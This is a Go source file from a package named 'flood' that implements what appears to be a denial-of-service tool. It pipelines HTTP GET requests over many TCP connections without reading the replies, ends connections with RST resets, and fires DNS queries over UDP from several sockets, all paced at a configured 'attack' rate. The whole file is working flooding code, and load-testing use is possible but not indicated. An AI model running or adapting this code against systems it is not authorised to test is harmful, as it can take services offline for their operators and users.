package flood

import (
	"context"
	"encoding/binary"
	"io"
	"net"
	"sync"
	"time"
)

// overload sends right requests at the attack's rate, whatever the answers do.
func overload(ctx context.Context, a *attack) error {
	if a.Protocol == DNS {
		return a.datagrams(ctx, a.query())
	}
	request := []byte("GET / HTTP/1.1\r\nHost: " + a.Addr.String() + "\r\n\r\n")
	turns := make(chan struct{}, a.Conns)
	var senders sync.WaitGroup
	for range a.Conns {
		senders.Go(func() { a.pipeline(ctx, turns, request) })
	}
	a.pace(ctx, func() {
		select {
		case turns <- struct{}{}:
		default: // all connections are full of what is not read: it can't be pressed harder
		}
	})
	close(turns)
	senders.Wait()
	return nil
}

// pipeline sends a request over one connection for each turn, without waiting for
// answers, and connects again when it has to.
func (a *attack) pipeline(ctx context.Context, turns <-chan struct{}, request []byte) {
	var conn net.Conn
	for range turns {
		if conn == nil {
			if conn = a.dial(ctx); conn == nil {
				continue
			}
			go io.Copy(io.Discard, conn) // ends with the connection
		}
		if _, err := conn.Write(request); err != nil {
			reset(conn)
			conn = nil
			continue
		}
		a.sent.Add(1)
	}
	if conn != nil {
		reset(conn)
	}
}

// dialPatience bounds how long one connection may take.
const dialPatience = time.Second

// dial connects; nil where that fails. What waits for the connection ends with ctx,
// which the attack's end ends.
func (a *attack) dial(ctx context.Context) net.Conn {
	d := net.Dialer{Timeout: dialPatience, KeepAlive: -1}
	conn, err := d.DialContext(ctx, "tcp", a.Addr.String())
	if err != nil {
		return nil
	}
	context.AfterFunc(ctx, func() { conn.SetDeadline(time.Now()) }) // an open connection takes any
	return conn
}

// reset ends a connection by a RST, which leaves nothing behind on this side.
func reset(conn net.Conn) {
	if c, ok := conn.(*net.TCPConn); ok {
		c.SetLinger(0)
	}
	conn.Close()
}

// query makes right queries with IDs that count up.
func (a *attack) query() func() []byte {
	query := append([]byte(nil), a.Query...)
	id := uint16(0)
	return func() []byte {
		id++
		binary.BigEndian.PutUint16(query, id)
		return query
	}
}

// datagrams sends what next makes from a few sockets in turn.
func (a *attack) datagrams(ctx context.Context, next func() []byte) error {
	const sockets = 16
	var conns []net.Conn
	for range sockets {
		conn, err := net.DialUDP("udp", nil, net.UDPAddrFromAddrPort(a.Addr))
		if err != nil {
			return err
		}
		defer conn.Close()
		conns = append(conns, conn)
	}
	n := 0
	a.pace(ctx, func() {
		n++
		if _, err := conns[n%sockets].Write(next()); err == nil { // it fails where the port is closed
			a.sent.Add(1)
		}
	})
	return nil
}
